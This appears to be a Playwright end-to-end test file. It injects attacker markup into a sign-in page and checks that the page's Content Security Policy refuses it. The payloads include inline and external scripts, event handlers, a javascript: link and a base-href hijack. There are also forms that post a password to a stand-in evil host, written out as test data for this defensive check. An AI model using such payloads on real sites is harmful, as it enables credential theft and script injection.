import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import { dist } from '#env/shared/projectRoot.ts';
import { consentCard } from '#tests/e2e/consent/consentCard.ts';
import { expectReady } from '#tests/e2e/fixtures/expectReady.ts';
import { test } from '#tests/e2e/fixtures/test.ts';
import type { Sandbox } from '#tests/e2e/fixtures/sandboxTest.ts';
import { signInPage } from '#tests/e2e/sign-in/signInPage.ts';
import { listenedTypes } from './listenedTypes.ts';

const signInHtml = readFileSync(join(dist, 'prerendered', 'xe', 'en-GB', 'signin.html'), 'utf8');

/** Serves the sign-in page with markup that an attacker has added, under the headers of the account host. */
const injectMarkup = async (sandbox: Sandbox, { head, body }: { head: string; body: string }): Promise<void> => {
  const html = signInHtml.replace('<head>', `<head>${head}`).replace('</body>', `${body}</body>`);
  expect(html).toContain(head);
  expect(html).toContain(body);
  await sandbox.fail({
    host: 'account.xe.localhost',
    path: '/signin',
    status: 200,
    body: html,
    headers: { 'content-type': 'text/html; charset=utf-8' },
  });
};

/** Whether a line of the console says that a directive refused something. */
const isRefusal = (line: string, directive: string, refused: string): boolean =>
  line.includes(refused) && new RegExp(`["']${directive} `).test(line);

const leaks = async (sandbox: Sandbox): Promise<ReadonlyArray<string>> =>
  (await sandbox.requests('')).filter(({ host }) => host === 'evil.localhost').map(({ path }) => path);

/** Forms that send a password to another site. */
const forms = (evil: string): ReadonlyArray<string> => [
  `<form action="${evil}/1" method="post"><input name="password" aria-label="Password 1"><button>Confirm 1</button></form>`,
  `<form action="${evil}/2"><input name="password" aria-label="Password 2"><button>Confirm 2</button></form>`,
  `<form action="/signin"><input name="password" aria-label="Password 3"><button formaction="${evil}/3">Confirm 3</button></form>`,
];

declare global {
  var attacks: ReadonlyArray<string> | undefined;
}

const attack = (name: string): string => `globalThis.attacks = [...(globalThis.attacks ?? []), '${name}']`;

/** Markup, the directive that must refuse it, and how the browser names what it refused. */
const attackMarkups = (evil: string): ReadonlyArray<readonly [directive: string, refused: string, markup: string]> => [
  ['script-src', 'inline script', `<script>${attack('inline')}</script>`],
  ['script-src', 'inline event handler', `<img src="/brands/xe/logo.svg" alt="" onload="${attack('handler')}">`],
  ['script-src', `${evil}/script.js`, `<script src="${evil}/script.js"></script>`],
  ['script-src', `${evil}/module.js`, `<script type="module" src="${evil}/module.js"></script>`],
  ['script-src', 'JavaScript URL', `<a href="javascript:${attack('link')}">Your prize</a>`],
  ['style-src', 'inline style', '<style>body { display: none }</style>'],
  ['style-src', `${evil}/style.css`, `<link rel="stylesheet" href="${evil}/style.css">`],
  ['img-src', `${evil}/image.png`, `<img src="${evil}/image.png" alt="">`],
  ['object-src', `${evil}/object.svg`, `<object data="${evil}/object.svg"></object>`],
  ['default-src', `Framing '${evil}`, `<iframe title="Advert" src="${evil}/frame"></iframe>`],
  ['default-src', `${evil}/video.mp4`, `<video src="${evil}/video.mp4"></video>`],
];

test('markup that an attacker adds to the sign-in page runs no script, moves and changes nothing, and neither it nor its forms send anything to another site; the page hears no message', async ({
  page,
  sandbox,
  pageErrors,
}) => {
  pageErrors.expect(/(?:script|style|img|object|default|frame|media)-src|base-uri|form-action/);
  const evil = sandbox.origin('evil');
  const markups = attackMarkups(evil);
  const lines: string[] = [];
  page.on('console', (message) => lines.push(message.text()));
  const body = [...forms(evil), ...markups.map(([, , markup]) => markup)].join('');
  await injectMarkup(sandbox, { head: `<base href="${evil}/">`, body });
  await page.goto('/signin');
  await expectReady(page);
  expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
  await page.getByRole('link', { name: 'Your prize' }).click();
  const refusals = [['base-uri', evil, ''] as const, ...markups];
  const accepted = () =>
    refusals.filter(([directive, refused]) => !lines.some((line) => isRefusal(line, directive, refused)));
  await expect.poll(accepted).toEqual([]);
  await expect(signInPage(page).email).toBeVisible();
  expect(await page.evaluate(() => globalThis.attacks)).toBeUndefined();
  await expect(consentCard(page).card).toBeVisible();
  await expect.poll(() => listenedTypes(page)).toContain('pagehide');
  expect(await listenedTypes(page)).not.toContain('message');

  await page.getByLabel('Password 1').focus();
  // Because: Playwright finds nothing more in a page once it waits for the navigation of a form, which never comes.
  for (const address of ['/1', '/2', '/3']) {
    const refused = page.waitForEvent('console', (message) => isRefusal(message.text(), 'form-action', evil + address));
    await page.keyboard.type('Correct-horse-9');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await refused;
    await page.keyboard.press('Tab');
  }
  expect(page.url()).toBe(`${sandbox.origin('account.xe')}/signin`);
  expect(await leaks(sandbox)).toEqual([]);
});
